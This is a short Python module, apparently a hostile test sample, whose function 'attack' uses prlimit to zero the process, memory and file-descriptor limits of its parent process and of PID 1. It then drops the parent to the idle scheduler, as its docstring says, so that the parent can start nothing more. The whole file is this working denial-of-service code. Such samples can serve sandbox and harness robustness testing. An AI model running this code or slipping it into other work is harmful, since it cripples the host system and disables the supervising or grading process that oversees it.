"""Takes its parent's processes, and its priority, so that it starts no more."""

import os
import resource


def attack(x):
    for process in (os.getppid(), 1):
        for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(process, limit, (0, 0))
            except (OSError, ValueError):
                pass
    os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))
